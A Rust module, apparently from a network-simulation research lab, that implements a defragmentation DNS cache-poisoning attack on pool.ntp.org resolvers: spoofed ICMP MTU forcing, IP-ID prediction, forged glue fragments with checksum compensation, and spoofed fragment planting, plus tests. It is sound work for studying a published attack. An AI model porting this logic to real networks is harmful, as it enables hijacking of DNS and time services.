//! Defragmentation cache poisoning (Herzberg & Shulman CNS'13, as used
//! against NTP in the paper's §II).
//!
//! The attack, end to end at packet level:
//!
//! 1. **Force fragmentation**: spoof ICMP "fragmentation needed" to the
//!    nameserver so its PMTU estimate toward the resolver drops (default
//!    296 bytes) and its DNS responses fragment.
//! 2. **Predict the IP-ID**: probe the nameserver with a direct query and
//!    read the ID off the response; sequential allocators hand the attacker
//!    the next IDs on a platter.
//! 3. **Forge the tail**: take the probe response as a byte-exact template
//!    (the authority/additional tail of pool responses is static), rewrite
//!    the glue A records to point at the attacker's fake nameserver with a
//!    TTL > 24 h, and patch a 16-bit slot so the UDP checksum of the
//!    spliced datagram still verifies.
//! 4. **Pre-plant**: send the forged tail as a spoofed second fragment for
//!    each predicted ID. When the genuine first fragment arrives, the
//!    victim's reassembler completes the datagram with the attacker's tail
//!    (first-wins), and the resolver caches attacker glue.
//!
//! From then on the resolver sends `pool.ntp.org` queries to the attacker's
//! fake nameserver, which serves 89 farm addresses with TTL 86 401 — the
//! §IV pool capture.

use bytes::Bytes;
use core::fmt;
use dnslab::name::Name;
use dnslab::server::DNS_PORT;
use dnslab::wire::{Message, Question, RData, Section};
use netsim::ip::{IpProto, Ipv4Packet, IPV4_HEADER_LEN};
use netsim::node::{Context, Node};
use netsim::stack::{IpStack, StackEvent};
use netsim::time::SimDuration;
use netsim::udp::{fold_checksum, ones_complement_sum, UDP_HEADER_LEN};
use rand::Rng;
use serde::{Deserialize, Serialize};
use std::error::Error;
use std::net::Ipv4Addr;

const TAG_REPLANT: u64 = 1;

/// Timer tag that switches a (disabled) poisoner on: schedule it with
/// [`netsim::world::World::schedule_timer`] for delayed attack starts.
pub const BEGIN_TAG: u64 = 2;

/// Configuration of a [`FragPoisoner`].
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct FragPoisonConfig {
    /// The victim resolver whose reassembly cache is poisoned.
    pub resolver: Ipv4Addr,
    /// The genuine nameserver probed for IP-IDs and response templates.
    pub nameserver: Ipv4Addr,
    /// All nameserver addresses the resolver might query: forged fragments
    /// are planted for each (reassembly keys include the source address,
    /// and the attacker cannot predict which server the resolver picks).
    pub spoof_sources: Vec<Ipv4Addr>,
    /// The query whose responses get spliced (`pool.ntp.org` A).
    pub qname: Name,
    /// Zone of the glue records to rewrite.
    pub zone: Name,
    /// Where forged glue points (the attacker's fake nameserver).
    pub fake_ns_addr: Ipv4Addr,
    /// PMTU forced onto the nameserver via spoofed ICMP.
    pub forced_mtu: u16,
    /// How many consecutive predicted IDs to plant per cycle.
    pub id_window: u16,
    /// Replant cadence (must undercut the 30 s reassembly timeout).
    pub replant_interval: SimDuration,
    /// High 16 bits of the forged glue TTL (`2` → TTL ≈ 36 h; the low 16
    /// bits of one record absorb the checksum compensation).
    pub glue_ttl_high: u16,
}

impl FragPoisonConfig {
    /// Sensible attack defaults against `pool.ntp.org`.
    pub fn new(resolver: Ipv4Addr, nameserver: Ipv4Addr, fake_ns_addr: Ipv4Addr) -> Self {
        FragPoisonConfig {
            resolver,
            nameserver,
            spoof_sources: vec![nameserver],
            qname: "pool.ntp.org".parse().expect("static name"),
            zone: "pool.ntp.org".parse().expect("static name"),
            fake_ns_addr,
            forced_mtu: 296,
            id_window: 4,
            replant_interval: SimDuration::from_secs(20),
            glue_ttl_high: 2,
        }
    }

    /// Sets the full NS set to spoof. Returns `self` for chaining.
    pub fn with_spoof_sources(mut self, sources: Vec<Ipv4Addr>) -> Self {
        self.spoof_sources = sources;
        self
    }
}

/// Counters describing attacker activity.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct FragPoisonStats {
    /// Probe queries sent to the nameserver.
    pub probes: u64,
    /// Plant cycles completed (forged fragments emitted).
    pub plants: u64,
    /// Total spoofed fragments sent.
    pub fragments_sent: u64,
    /// Spoofed ICMP frag-needed messages sent.
    pub icmp_sent: u64,
    /// Probe responses that could not be forged (template errors).
    pub forge_failures: u64,
}

/// A forged trailing fragment ready for planting.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ForgedTail {
    /// Fragment offset in 8-byte units.
    pub frag_offset_units: u16,
    /// The forged fragment payload.
    pub payload: Vec<u8>,
    /// How many glue records now point at the fake nameserver.
    pub glue_rewritten: usize,
}

/// Why a probe response could not be turned into a forged tail.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ForgeError {
    /// The response fits in the forced MTU — nothing fragments.
    DoesNotFragment,
    /// Re-encoding disagreed with the observed bytes (template drift).
    TemplateMismatch,
    /// No glue A record lies fully inside the trailing fragment.
    NoGlueInTail,
    /// No 16-bit-aligned attacker-controlled slot for the checksum fix-up.
    NoCompensationSlot,
}

impl fmt::Display for ForgeError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ForgeError::DoesNotFragment => write!(f, "response does not fragment at forced mtu"),
            ForgeError::TemplateMismatch => write!(f, "re-encoded template differs from wire"),
            ForgeError::NoGlueInTail => write!(f, "no glue record inside the trailing fragment"),
            ForgeError::NoCompensationSlot => {
                write!(f, "no aligned slot for checksum compensation")
            }
        }
    }
}

impl Error for ForgeError {}

/// Forges the trailing fragment of a predicted response.
///
/// * `response` — the decoded probe response (the template).
/// * `segment` — the observed UDP segment bytes (header + DNS payload).
/// * `forced_mtu` — the PMTU forced onto the server.
///
/// The forged tail rewrites every glue A record under `zone` that lies
/// fully within the trailing fragment to `fake_ns_addr` with TTL
/// `glue_ttl_high << 16 | compensation`, where the compensation word keeps
/// the spliced datagram's UDP checksum identical to the original.
///
/// # Errors
///
/// See [`ForgeError`].
pub fn forge_tail(
    response: &Message,
    segment: &[u8],
    forced_mtu: u16,
    zone: &Name,
    fake_ns_addr: Ipv4Addr,
    glue_ttl_high: u16,
) -> Result<ForgedTail, ForgeError> {
    let first_len = ((forced_mtu as usize - IPV4_HEADER_LEN) / 8) * 8;
    if segment.len() <= first_len {
        return Err(ForgeError::DoesNotFragment);
    }
    let (encoded, spans) = response.encode_tracked();
    if encoded.len() + UDP_HEADER_LEN != segment.len() || encoded[..] != segment[UDP_HEADER_LEN..] {
        return Err(ForgeError::TemplateMismatch);
    }
    let original_tail = &segment[first_len..];
    let mut forged = original_tail.to_vec();

    // Glue A records under the zone, fully inside the tail.
    let targets: Vec<_> = spans
        .iter()
        .filter(|s| {
            s.section == Section::Additional
                && matches!(s.record.rdata, RData::A(_))
                && s.record.name.is_subdomain_of(zone)
                && s.fields.start + UDP_HEADER_LEN >= first_len
        })
        .collect();
    if targets.is_empty() {
        return Err(ForgeError::NoGlueInTail);
    }
    let tail_off = |msg_offset: usize| msg_offset + UDP_HEADER_LEN - first_len;
    for t in &targets {
        let rd = tail_off(t.fields.rdata_offset);
        forged[rd..rd + 4].copy_from_slice(&fake_ns_addr.octets());
        let ttl = tail_off(t.fields.ttl_offset);
        forged[ttl..ttl + 4].copy_from_slice(&(u32::from(glue_ttl_high) << 16).to_be_bytes());
    }
    // Compensation slot: the low 16 TTL bits of the last forged glue record
    // (attacker-controlled, parse-safe — the TTL stays above 24 h because
    // its high bits are `glue_ttl_high`).
    let last = targets.last().expect("targets checked non-empty");
    let slot = tail_off(last.fields.ttl_offset) + 2;
    if slot + 2 > forged.len() {
        return Err(ForgeError::NoCompensationSlot);
    }
    forged[slot] = 0;
    forged[slot + 1] = 0;
    // Ones-complement fix-up: want sum(forged) == sum(original_tail). Both
    // slices start at `first_len`, a multiple of 8, so 16-bit word pairing
    // is preserved relative to the datagram. A byte at even offset weighs
    // 2^8, at odd offset 2^0 — so an odd-aligned slot takes the
    // compensation word byte-swapped.
    let want = fold_checksum(ones_complement_sum(original_tail));
    let have = fold_checksum(ones_complement_sum(&forged));
    let comp = fold_checksum(u32::from(want) + u32::from(!have));
    let bytes = if (slot + first_len).is_multiple_of(2) {
        comp.to_be_bytes()
    } else {
        comp.to_le_bytes()
    };
    forged[slot..slot + 2].copy_from_slice(&bytes);
    debug_assert_eq!(
        u32::from(fold_checksum(ones_complement_sum(&forged))) % 0xffff,
        u32::from(fold_checksum(ones_complement_sum(original_tail))) % 0xffff,
        "compensation must equalise the sums modulo 0xffff"
    );
    Ok(ForgedTail {
        frag_offset_units: (first_len / 8) as u16,
        payload: forged,
        glue_rewritten: targets.len(),
    })
}

/// The off-path defragmentation-poisoning attacker node.
#[derive(Debug)]
pub struct FragPoisoner {
    stack: IpStack,
    config: FragPoisonConfig,
    probe_txid: Option<u16>,
    stats: FragPoisonStats,
    enabled: bool,
}

impl FragPoisoner {
    /// Creates the attacker at `addr`.
    pub fn new(addr: Ipv4Addr, config: FragPoisonConfig) -> Self {
        FragPoisoner {
            stack: IpStack::new(addr),
            config,
            probe_txid: None,
            stats: FragPoisonStats::default(),
            enabled: true,
        }
    }

    /// The attacker's own address.
    pub fn addr(&self) -> Ipv4Addr {
        self.stack.addr()
    }

    /// Activity counters.
    pub fn stats(&self) -> FragPoisonStats {
        self.stats
    }

    /// Enables or disables the attack loop (for staged scenarios).
    pub fn set_enabled(&mut self, enabled: bool) {
        self.enabled = enabled;
    }

    fn send_icmp_mtu_force(&mut self, ctx: &mut Context<'_>) {
        let icmp = netsim::icmp::IcmpMessage::FragmentationNeeded {
            mtu: self.config.forced_mtu,
            original: netsim::icmp::QuotedPacket {
                src: self.config.nameserver,
                dst: self.config.resolver,
                proto: IpProto::Udp,
                head: [0; 8],
            },
        }
        .into_packet(netsim::world::ROUTER_ADDR, self.config.nameserver);
        ctx.send(icmp);
        self.stats.icmp_sent += 1;
    }

    fn send_probe(&mut self, ctx: &mut Context<'_>) {
        let txid: u16 = ctx.rng().gen();
        self.probe_txid = Some(txid);
        self.stats.probes += 1;
        let query = Message::query(txid, Question::a(self.config.qname.clone())).with_edns(4096);
        let me = self.stack.addr();
        self.stack.send_udp(
            ctx,
            me,
            33_333,
            self.config.nameserver,
            DNS_PORT,
            &query.encode(),
        );
    }

    fn plant(&mut self, ctx: &mut Context<'_>, base_id: u16, tail: &ForgedTail) {
        for &source in &self.config.spoof_sources {
            for k in 1..=self.config.id_window {
                let mut pkt = Ipv4Packet::new(
                    source, // spoofed
                    self.config.resolver,
                    IpProto::Udp,
                    Bytes::from(tail.payload.clone()),
                );
                pkt.id = base_id.wrapping_add(k);
                pkt.more_fragments = false;
                pkt.frag_offset_units = tail.frag_offset_units;
                ctx.send(pkt);
                self.stats.fragments_sent += 1;
            }
        }
        self.stats.plants += 1;
    }
}

impl Node for FragPoisoner {
    fn reset(&mut self) {
        self.stack.reset();
        self.probe_txid = None;
        self.stats = FragPoisonStats::default();
        // Constructor default; staged scenarios re-apply their delayed
        // start (set_enabled + BEGIN_TAG timer) after a world reset.
        self.enabled = true;
    }

    fn on_start(&mut self, ctx: &mut Context<'_>) {
        if !self.enabled {
            return;
        }
        self.send_icmp_mtu_force(ctx);
        self.send_probe(ctx);
        ctx.set_timer(self.config.replant_interval, TAG_REPLANT);
    }

    fn on_packet(&mut self, ctx: &mut Context<'_>, pkt: Ipv4Packet) {
        if !self.enabled {
            return;
        }
        // Observe the raw IP id before the stack swallows the packet.
        let observed_id =
            (pkt.src == self.config.nameserver && pkt.proto == IpProto::Udp).then_some(pkt.id);
        let Some(StackEvent::Udp { src, datagram, .. }) = self.stack.handle(ctx, pkt) else {
            return;
        };
        let (Some(base_id), Some(expected_txid)) = (observed_id, self.probe_txid) else {
            return;
        };
        if src != self.config.nameserver {
            return;
        }
        let Ok(msg) = Message::decode(&datagram.payload) else {
            return;
        };
        if !msg.flags.response || msg.id != expected_txid {
            return;
        }
        self.probe_txid = None;
        // Reconstruct the UDP segment the server put on the wire.
        let segment = datagram.encode(self.config.nameserver, self.stack.addr());
        match forge_tail(
            &msg,
            &segment,
            self.config.forced_mtu,
            &self.config.zone,
            self.config.fake_ns_addr,
            self.config.glue_ttl_high,
        ) {
            Ok(tail) => self.plant(ctx, base_id, &tail),
            Err(_) => self.stats.forge_failures += 1,
        }
    }

    fn on_timer(&mut self, ctx: &mut Context<'_>, tag: u64) {
        if tag == BEGIN_TAG && !self.enabled {
            self.enabled = true;
        } else if tag != TAG_REPLANT || !self.enabled {
            return;
        }
        self.send_icmp_mtu_force(ctx);
        self.send_probe(ctx);
        ctx.set_timer(self.config.replant_interval, TAG_REPLANT);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use dnslab::wire::Record;
    use dnslab::zone::pool_ntp_zone;
    use netsim::udp::UdpDatagram;

    /// Encodes what the nameserver would send for a pool query with EDNS.
    fn template(ns_count: usize) -> (Message, Vec<u8>) {
        let mut zone = pool_ntp_zone(96, ns_count);
        let q = Question::a("pool.ntp.org".parse().unwrap());
        let ans = zone.answer(&q);
        let mut msg = Message::response_to(&Message::query(0x4242, q));
        msg.flags.authoritative = true;
        msg.answers = ans.answers;
        msg.authorities = ans.authorities;
        msg.additionals = ans.additionals;
        let msg = msg.with_edns(4096);
        let dgram = UdpDatagram::new(DNS_PORT, 5300, msg.encode());
        let server = Ipv4Addr::new(203, 0, 113, 1);
        let resolver = Ipv4Addr::new(198, 51, 100, 53);
        let segment = dgram.encode(server, resolver).to_vec();
        (msg, segment)
    }

    fn fake_ns() -> Ipv4Addr {
        Ipv4Addr::new(198, 19, 255, 53)
    }

    fn zone_name() -> Name {
        "pool.ntp.org".parse().unwrap()
    }

    #[test]
    fn forged_tail_rewrites_all_glue_at_mtu_296() {
        let (msg, segment) = template(14);
        let tail = forge_tail(&msg, &segment, 296, &zone_name(), fake_ns(), 2).unwrap();
        assert!(tail.glue_rewritten >= 13, "got {}", tail.glue_rewritten);
        assert_eq!(tail.frag_offset_units as usize * 8, 272);
        assert_eq!(tail.payload.len(), segment.len() - 272);
    }

    /// The spliced datagram (genuine head + forged tail) must pass UDP
    /// checksum validation and decode to a poisoned message.
    #[test]
    fn spliced_datagram_validates_and_is_poisoned() {
        let (msg, segment) = template(14);
        let first_len = 272;
        let tail = forge_tail(&msg, &segment, 296, &zone_name(), fake_ns(), 2).unwrap();
        let mut spliced = segment[..first_len].to_vec();
        spliced.extend_from_slice(&tail.payload);
        assert_eq!(spliced.len(), segment.len());

        let server = Ipv4Addr::new(203, 0, 113, 1);
        let resolver = Ipv4Addr::new(198, 51, 100, 53);
        let dgram = UdpDatagram::decode(server, resolver, &Bytes::from(spliced), true)
            .expect("checksum must still verify");
        let poisoned = Message::decode(&dgram.payload).unwrap();
        // Answer section untouched (it lives in the authentic head).
        assert_eq!(poisoned.answers, msg.answers);
        // Glue now points at the attacker with TTL > 24h.
        let glue: Vec<&Record> = poisoned
            .additionals
            .iter()
            .filter(|r| r.as_a().is_some())
            .collect();
        let fake_count = glue.iter().filter(|r| r.as_a() == Some(fake_ns())).count();
        assert!(
            fake_count >= 13,
            "{fake_count} of {} glue forged",
            glue.len()
        );
        for r in glue.iter().filter(|r| r.as_a() == Some(fake_ns())) {
            assert!(r.ttl > 86_400, "forged ttl {} exceeds 24h", r.ttl);
        }
    }

    #[test]
    fn small_response_does_not_fragment() {
        let (msg, segment) = template(2); // tiny authority section
        assert_eq!(
            forge_tail(&msg, &segment, 1500, &zone_name(), fake_ns(), 2),
            Err(ForgeError::DoesNotFragment)
        );
    }

    #[test]
    fn no_glue_in_tail_detected() {
        // 4-NS zone at MTU 548: the whole message fits in the first
        // fragment... use a large enough zone that it fragments but all glue
        // sits in the head: 8 NS at MTU 548 -> total 385+ bytes? That fits.
        // Instead: 14 NS at 548 — glue spans 354..578, first fragment holds
        // 528 bytes, so some glue is in the head and some in the tail; with
        // an even smaller zone nothing lands in the tail.
        let (msg, segment) = template(14);
        // At MTU 580 the first fragment holds 560 bytes; only the OPT and
        // the very last glue records trail. Check a forced case: MTU just
        // below the total so the tail holds only the OPT record.
        let total = segment.len();
        let mtu = (((total - 10) / 8) * 8 + IPV4_HEADER_LEN) as u16;
        let result = forge_tail(&msg, &segment, mtu, &zone_name(), fake_ns(), 2);
        assert_eq!(result, Err(ForgeError::NoGlueInTail));
    }

    #[test]
    fn template_mismatch_detected() {
        let (msg, mut segment) = template(14);
        segment[20] ^= 0xff;
        assert_eq!(
            forge_tail(&msg, &segment, 296, &zone_name(), fake_ns(), 2),
            Err(ForgeError::TemplateMismatch)
        );
    }

    #[test]
    fn partial_glue_rewrite_at_mtu_548() {
        let (msg, segment) = template(14);
        let tail = forge_tail(&msg, &segment, 548, &zone_name(), fake_ns(), 2).unwrap();
        assert!(tail.glue_rewritten >= 1);
        assert!(
            tail.glue_rewritten < 14,
            "only trailing glue is reachable at 548"
        );
        // Still checksum-clean.
        let mut spliced = segment[..528].to_vec();
        spliced.extend_from_slice(&tail.payload);
        let server = Ipv4Addr::new(203, 0, 113, 1);
        let resolver = Ipv4Addr::new(198, 51, 100, 53);
        assert!(UdpDatagram::decode(server, resolver, &Bytes::from(spliced), true).is_ok());
    }
}
